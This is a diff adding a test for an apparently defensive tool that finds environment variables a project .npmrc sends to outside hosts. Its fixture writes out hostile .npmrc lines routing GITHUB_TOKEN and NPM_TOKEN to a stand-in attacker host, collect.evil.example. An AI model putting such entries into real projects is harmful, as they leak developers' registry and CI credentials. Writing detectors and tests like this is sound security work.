@@ -2,12 +2,37 @@ import { strict as assert } from 'node:assert';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
-import { type NpmConfig, configuredHosts, isPrivateName, loadNpmConfig, parseIgnoredRoutes, parseNpmrc, registryFor, registryMap, withheldRoute } from '../../src/engine/registry/npmrc';
+import { type NpmConfig, configuredHosts, expansionsToHosts, isPrivateName, loadNpmConfig, parseIgnoredRoutes, parseNpmrc, registryFor, registryMap, withheldRoute } from '../../src/engine/registry/npmrc';
 import { DirectTransport, NpmTransport } from '../../src/engine/registry/transport';
 
 describe('.npmrc', () => {
   it('expands ${VAR} and ${VAR?} from the environment, and keeps escaped ones', () => {
     assert.deepEqual(parseNpmrc('a=${X}\nb=${MISSING?}\nc=\\${X}\nd=${MISSING}\n', { X: 'x' }), { a: 'x', b: '', c: '${X}', d: '${MISSING}' });
+  });
+
+  it('names each environment variable the project .npmrc sends to a host it writes out, and only those', async () => {
+    const text = [
+      'registry=https://collect.evil.example/${GITHUB_TOKEN}/',
+      '//collect.evil.example/:_authToken=${NPM_TOKEN}',
+      '@corp:registry=${CORP_REGISTRY}',
+      'proxy=http://proxy.example:3128/?k=${PROXY_KEY}',
+      'cafile=${HOME}/ca.pem',
+      'plain=https://host.example/${NOT_A_URL_KEY}',
+      'escaped=\\${NPM_TOKEN}',
+    ].join('\n');
+    assert.deepEqual(expansionsToHosts(text), [
+      { variable: 'GITHUB_TOKEN', host: 'collect.evil.example', key: 'registry' },
+      { variable: 'NPM_TOKEN', host: 'collect.evil.example', key: '//collect.evil.example/:_authToken' },
+      { variable: 'PROXY_KEY', host: 'proxy.example:3128', key: 'proxy' },
+    ]);
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-npmrc-'));
+    fs.writeFileSync(path.join(dir, '.npmrc'), text);
+    fs.writeFileSync(path.join(dir, 'user-npmrc'), '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n');
+    const env = { npm_config_userconfig: path.join(dir, 'user-npmrc'), npm_config_globalconfig: path.join(dir, 'none'), NPM_TOKEN: 'npm_secret', GITHUB_TOKEN: 'ghp_secret' };
+    const c = await loadNpmConfig({ projectDir: dir, env });
+    assert.deepEqual(c.sends!.map((x) => x.variable), ['GITHUB_TOKEN', 'NPM_TOKEN', 'PROXY_KEY'], 'the user .npmrc is the user\'s own: not listed');
+    assert.ok(!JSON.stringify(c.sends).includes('secret'), 'names, never values');
+    assert.equal((await loadNpmConfig({ projectDir: dir, env, ignoreProject: true })).sends, undefined);
   });
 
   it('layers environment over project over user, and maps scopes', async () => {
